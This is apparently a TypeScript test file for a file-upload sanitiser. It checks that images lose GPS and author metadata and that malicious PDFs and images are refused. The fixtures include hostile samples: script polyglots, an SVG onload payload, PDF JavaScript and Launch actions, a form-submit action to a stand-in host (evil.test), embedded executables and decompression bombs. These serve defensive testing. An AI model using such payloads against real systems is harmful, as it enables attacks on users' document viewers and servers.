import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { pdfOf } from '../../testing/factories/pdf-files.ts';
import { createLog } from '../log/log.ts';
import { createUploads } from './uploads.ts';

const log = createLog('silent');
const { admit } = createUploads({ env: { CLAMAV_URL: undefined }, log });
const ALL = ['application/pdf', 'image/jpeg', 'image/png'] as const;
const take = (content: Buffer) =>
  admit(content, { types: ALL }, { typeKey: 'health.report.error.type' });
/** The key of what the guardian is told, or the type of what is kept. */
const told = (content: Buffer) =>
  take(content).then(
    ({ mediaType }) => mediaType,
    ({ detail }) => detail.userMessageKey,
  );

const drawing = (width = 60, height = 40) =>
  sharp({ create: { width, height, channels: 3, background: '#c33' } });

/** A picture as a phone takes it: lying on its side, and it says where it was. */
const photo = (format: 'jpeg' | 'png') =>
  drawing()
    .withExif({
      IFD0: { Artist: 'Marina Almeida', Orientation: '6' },
      IFD3: { GPSLatitude: '23/1 33/1 1/1', GPSLatitudeRef: 'S' },
    })
    .withMetadata({ orientation: 6 })
    .toFormat(format)
    .toBuffer();

/** A PNG's chunk. */
function chunk(type: string, data: Buffer): Buffer {
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type), data]);
  checksum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, checksum]);
}

function crc32(bytes: Buffer): number {
  let crc = -1;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

/** A PNG that declares this size; its content is `rows` packed. */
function png(width: number, height: number, rows: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('a picture', () => {
  test.each(['jpeg', 'png'] as const)(
    'loses where and by whom it was taken, and stands upright (%s)',
    async (format) => {
      const before = await photo(format);
      expect((await sharp(before).metadata()).exif).toBeDefined();
      const { mediaType, content } = await take(before);
      const after = await sharp(content).metadata();
      expect(mediaType).toBe(`image/${format}`);
      expect([after.exif, after.xmp, after.orientation]).toEqual([undefined, undefined, undefined]);
      expect([after.format, after.width, after.height]).toEqual([format, 40, 60]);
      expect(content.includes('Marina')).toBe(false);
    },
  );

  test('that is a page or an archive too is a picture only afterwards', async () => {
    const polyglot = Buffer.concat([
      await photo('jpeg'),
      Buffer.from('<script>alert(1)</script>PK\u0003\u0004%PDF-1.7 /JavaScript'),
    ]);
    const { content } = await take(polyglot);
    for (const word of ['script', 'PK\u0003\u0004', '%PDF'])
      expect(content.includes(word)).toBe(false);
  });

  test('that declares more pixels than a copy can hold is refused before it is decoded', async () => {
    expect(await told(png(50_000, 50_000, Buffer.alloc(10)))).toBe('upload.error.tooManyPixels');
    const bomb = png(60_000, 60_000, Buffer.alloc(50_000_000));
    expect(bomb.length).toBeLessThan(100_000);
    const startedAt = process.memoryUsage().rss;
    expect(await told(bomb)).toBe('upload.error.tooManyPixels');
    expect(process.memoryUsage().rss - startedAt).toBeLessThan(200_000_000);
  });

  test('that unpacks to more than it declares is drawn as it declares', async () => {
    const { content } = await take(png(10, 10, Buffer.alloc(20_000_000)));
    expect(content.length).toBeLessThan(2_000);
  });

  test('that breaks off, or is none behind its first bytes, is refused', async () => {
    const whole = await drawing(200, 200).jpeg().toBuffer();
    const broken = [
      whole.subarray(0, whole.length / 2),
      whole.subarray(0, 3),
      png(10, 10, Buffer.alloc(3)),
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('<svg onload="alert(1)"/>')]),
    ];
    for (const content of broken) expect(await told(content)).toBe('upload.error.damaged');
  });
});

/** Opens without a password, and has one that forbids to change it. */
function encryptedPdf(): Promise<Buffer> {
  const doc = new PDFDocument({ ownerPassword: 'a doctor', pdfVersion: '1.7' });
  doc.text('what the doctor wrote').end();
  return buffer(doc);
}

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const FILE = '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>';
const CONTENT = '<</Length 2>>\nstream\nMZ\nendstream';

describe('a PDF', () => {
  test('that neither runs nor contains anything is kept as it is', async () => {
    const content = pdfOf({ comment: 'what the doctor wrote' });
    expect(await take(content)).toEqual({ mediaType: 'application/pdf', content });
    expect(await told(pdfOf({ objects: ['<</Title(About JavaScript)>>'], packed: true }))).toBe(
      'application/pdf',
    );
  });

  test.each<[string, Buffer]>([
    ['a script when it is opened', pdfOf({ catalogue: '/OpenAction 4 0 R', objects: [SCRIPT] })],
    [
      'a script among its names',
      pdfOf({ catalogue: '/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', objects: [SCRIPT] }),
    ],
    ['a script of a page', pdfOf({ page: '/AA<</O 4 0 R>>', objects: [SCRIPT] })],
    [
      'a script whose name is written in digits',
      pdfOf({ catalogue: '/OpenAction<</S/J#61vaScrip#74/JS(1)>>' }),
    ],
    ['a packed script', pdfOf({ catalogue: '/OpenAction 4 0 R', objects: [SCRIPT], packed: true })],
    ['a script that nothing refers to', pdfOf({ objects: [SCRIPT] })],
    ['a program to be started', pdfOf({ catalogue: '/OpenAction<</S/Launch/F(calc.exe)>>' })],
    [
      'a form to be sent somewhere',
      pdfOf({ page: '/AA<</O<</S/SubmitForm/F(http://evil.test)>>>>' }),
    ],
    [
      'an embedded file',
      pdfOf({
        catalogue: '/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>',
        objects: [FILE, CONTENT],
      }),
    ],
    [
      'a file pinned to a page',
      pdfOf({
        page: '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]',
        objects: [FILE, CONTENT],
      }),
    ],
  ])('with %s is refused', async (_, content) => {
    expect(await told(content)).toBe('upload.error.active');
  });

  test('that is encrypted is refused, as is one that no reader opens', async () => {
    expect(await told(await encryptedPdf())).toBe('upload.error.encrypted');
    const locked = pdfOf({
      trailer: `/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/O<${'0'.repeat(64)}>/U<${'0'.repeat(64)}>/P -4>>`,
    });
    expect(await told(locked)).toBe('upload.error.encrypted');
    expect(await told(Buffer.from('%PDF-1.7\nnothing else'))).toBe('upload.error.damaged');
    expect(await told(Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(1_000_000)]))).toBe(
      'upload.error.damaged',
    );
  });

  test('that unpacks to very much is looked through piece by piece', async () => {
    const bomb = deflateSync(Buffer.alloc(40_000_000));
    const body = `<</Length ${bomb.length}/Filter/FlateDecode>>\nstream\n${bomb.toString('latin1')}\nendstream`;
    const content = Buffer.from(
      pdfOf({ objects: [] })
        .toString('latin1')
        .replace('trailer', `4 0 obj\n${body}\nendobj\ntrailer`),
      'latin1',
    );
    expect(await told(content)).toBe('application/pdf');
    expect(process.memoryUsage().rss).toBeLessThan(1_500_000_000);
  });
});

test('what it is not by its content is refused, whatever its name', async () => {
  const others = [
    '',
    'MZ\u0090',
    '<svg xmlns="http://www.w3.org/2000/svg"/>',
    'GIF89a',
    'PK\u0003\u0004',
  ];
  for (const content of others) {
    expect(await told(Buffer.from(content, 'latin1'))).toBe('health.report.error.type');
  }
  const only = admit(
    await photo('png'),
    { types: ['application/pdf'] },
    {
      typeKey: 'health.report.error.type',
    },
  );
  await expect(only).rejects.toMatchObject({ code: 'unsupported_media_type' });
});
